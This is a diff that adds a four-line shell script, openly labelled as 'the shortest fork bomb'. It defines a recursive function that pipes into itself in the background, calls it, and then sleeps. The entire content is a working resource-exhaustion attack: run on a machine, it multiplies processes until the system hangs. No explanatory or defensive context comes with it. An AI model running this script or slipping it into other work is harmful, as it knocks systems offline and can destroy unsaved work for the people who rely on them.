@@ -1,0 +1,4 @@
+# The shortest fork bomb.
+bomb() { bomb | bomb & }
+bomb
+sleep 60
